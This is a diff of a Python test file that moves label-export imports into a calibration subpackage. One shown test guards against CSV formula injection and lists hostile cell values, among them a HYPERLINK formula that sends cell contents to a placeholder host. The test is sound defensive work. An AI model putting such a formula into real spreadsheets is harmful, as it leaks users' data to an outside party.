@@ -239,7 +239,7 @@ def test_an_export_into_a_missing_folder_makes_it_and_an_unwritable_path_is_name
     cannot write it blamed RAGASSAY_HOME. The export's folders are made; a path that cannot be
     written (here: under a file) is named, a ConfigError (exit 2)."""
     from ragassay.errors import ConfigError
-    from ragassay.judge.labels import export_sample
+    from ragassay.judge.calibration.labels import export_sample
     from ragassay.store.schemas import JUDGE_LABELS
 
     target = tmp_path / "new" / "folders" / "sample.jsonl"
@@ -306,9 +306,9 @@ def test_an_exported_csv_never_starts_a_cell_with_a_formula_and_reads_back_the_s
     spreadsheet saved the file again (dropping that `'` itself)."""
     import csv
 
-    from ragassay.judge.labels import export_sample
-    from ragassay.judge.labels.files import read_label_file
-    from ragassay.judge.labels.sample import SampleItem, sample_id_of
+    from ragassay.judge.calibration.labels import export_sample
+    from ragassay.judge.calibration.labels.files import read_label_file
+    from ragassay.judge.calibration.labels.sample import SampleItem, sample_id_of
     from ragassay.store.schemas import JUDGE_LABELS
 
     hostile = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1 bees", "-2 hives", "@SUM(A1:A9)", "'quoted", "\tTab"]
